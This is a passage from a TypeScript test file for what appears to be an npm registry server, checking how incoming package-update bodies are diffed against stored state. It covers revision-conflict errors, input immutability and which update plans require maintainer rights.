  for (const c of cases) {
    void test(`${c.name} changed: ignored, empty plan`, () => {
      assertEmptyPlan(diffUpdate(base(), edited(c.edit), ALICE))
    })
  }
})

void describe('diffUpdate: _rev', () => {
  const past: [string, Body][] = [
    ['a deprecate body', npmDeprecate(packument(base({ rev: PAST_REV })), '1.0.0', 'msg')],
    ['a star body', npmStar(packument(base({ rev: PAST_REV })), ALICE)],
    ['an owner add body', npmOwnerAdd(packument(base({ rev: PAST_REV })), 'dave')],
    ['an unpublish body', npmUnpublishVersion(packument(base({ rev: PAST_REV })), '1.0.0')],
    ['an unchanged packument', wire(packument(base({ rev: PAST_REV })))],
    ['an invalid body (maintainers: [], versions: {})', wire({ _rev: PAST_REV, versions: {}, maintainers: [] })],
  ]
  for (const [label, body] of past) {
    void test(`${label} with a _rev from the past → throws REV_CONFLICT`, () => {
      assert.equal(body._rev, PAST_REV)
      throwsRevConflict(() => diffUpdate(base(), body, ALICE))
    })
  }

  const otherRevs = ['8-9f86d081884c7d65', '', '7', '7-9F86D081884C7D65', ' 7-9f86d081884c7d65']
  for (const rev of otherRevs) {
    void test(`a string _rev ${JSON.stringify(rev)} that is not the stored one → throws REV_CONFLICT`, () => {
      throwsRevConflict(() => diffUpdate(base(), wire({ _rev: rev }), ALICE))
    })
  }

  void test('the current _rev: no error', () => {
    const body = npmDeprecate(packument(), '1.0.0', 'msg')
    assert.equal(body._rev, REV)
    assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ deprecations: [{ version: '1.0.0', message: 'msg' }] }))
  })

  void test('no _rev: no error', () => {
    const body = npmDeprecate(packument(), '1.0.0', 'msg')
    delete body._rev
    assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ deprecations: [{ version: '1.0.0', message: 'msg' }] }))
  })

  const nonStrings: [string, unknown][] = [
    ['a number', 6],
    ['null', null],
    ['an object', { rev: PAST_REV }],
    ['an array', [PAST_REV]],
    ['false', false],
  ]
  for (const [label, rev] of nonStrings) {
    void test(`a _rev that is ${label}, not a string: ignored`, () => {
      const body = { ...npmStar(packument(), ALICE), _rev: rev }
      assert.deepEqual(diffUpdate(base(), body, ALICE), plan({ star: true }))
    })
  }
})

void describe('diffUpdate: purity', () => {
  void test('neither the stored state nor the body is modified (both deeply frozen)', () => {
    const stored = deepFreeze(base({ live: structuredClone(LIVE), maintainers: ['bob', 'alice'], stars: ['carol', 'bob'] }))
    const body = deepFreeze(
      edited((d) => {
        delete d.versions['1.0.0']
        version(d, '2.0.0').deprecated = ''
        d.maintainers = [person('dave'), person('alice'), person('dave')]
        d.users = { alice: true }
      }),
    )
    const before = JSON.stringify({ stored, body })
    const p = diffUpdate(stored, body, ALICE)
    assert.equal(JSON.stringify({ stored, body }), before)
    assert.deepEqual(
      p,
      plan({ star: true, deprecations: [{ version: '2.0.0', message: undefined }], unpublish: ['1.0.0'], maintainers: ['alice', 'dave'] }),
    )
  })

  void test('the same inputs give the same plan, in fresh arrays', () => {
    const stored = base()
    const body = npmOwnerAdd(packument(), 'dave')
    const a = diffUpdate(stored, body, ALICE)
    const b = diffUpdate(stored, body, ALICE)
    assert.deepEqual(a, b)
    assert.notEqual(a.maintainers, b.maintainers)
    assert.notEqual(a.maintainers, stored.maintainers)
    assert.deepEqual(stored.maintainers, ['alice', 'bob'])
  })
})

void describe('needsMaintainer and isEmpty', () => {
  const cases: { name: string; plan: UpdatePlan; needs: boolean; empty: boolean }[] = [
    { name: 'an empty plan', plan: plan(), needs: false, empty: true },
    { name: 'a star-only plan (star: true)', plan: plan({ star: true }), needs: false, empty: false },
    { name: 'an unstar-only plan (star: false)', plan: plan({ star: false }), needs: false, empty: false },
    { name: 'a deprecation', plan: plan({ deprecations: [{ version: '1.0.0', message: 'msg' }] }), needs: true, empty: false },
    { name: 'an undeprecation (message undefined)', plan: plan({ deprecations: [{ version: '1.0.0', message: undefined }] }), needs: true, empty: false },
    { name: 'an unpublish', plan: plan({ unpublish: ['1.0.0'] }), needs: true, empty: false },
    { name: 'a maintainer change', plan: plan({ maintainers: ['alice', 'dave'] }), needs: true, empty: false },
    { name: 'no maintainer left (maintainers: [], invalid)', plan: plan({ maintainers: [], invalid: NO_MAINTAINER_LEFT }), needs: true, empty: false },
    { name: 'a star and a deprecation', plan: plan({ star: true, deprecations: [{ version: '1.0.0', message: 'm' }] }), needs: true, empty: false },
  ]
  for (const c of cases) {
    void test(`${c.name}: needsMaintainer ${String(c.needs)}, isEmpty ${String(c.empty)}`, () => {
      assert.equal(needsMaintainer(c.plan), c.needs)
      assert.equal(isEmpty(c.plan), c.empty)
    })
  }

  void test('on plans diffUpdate builds from npm’s bodies', () => {
    const doc = packument()
    const rows: [string, Body, boolean, boolean][] = [
      ['unchanged', wire(doc), false, true],
      ['star', npmStar(doc, ALICE), false, false],
      ['deprecate', npmDeprecate(doc, '1.0.0', 'm'), true, false],
      ['undeprecate', npmDeprecate(doc, '2.0.0', ''), true, false],
      ['owner add', npmOwnerAdd(doc, 'dave'), true, false],
      ['owner rm', npmOwnerRm(doc, 'bob'), true, false],
      ['unpublish', npmUnpublishVersion(doc, '1.0.0'), true, false],
    ]
    for (const [label, body, needs, empty] of rows) {
      const p = diffUpdate(base(), body, ALICE)
      assert.equal(needsMaintainer(p), needs, `${label}: needsMaintainer`)
      assert.equal(isEmpty(p), empty, `${label}: isEmpty`)
    }
  })
})
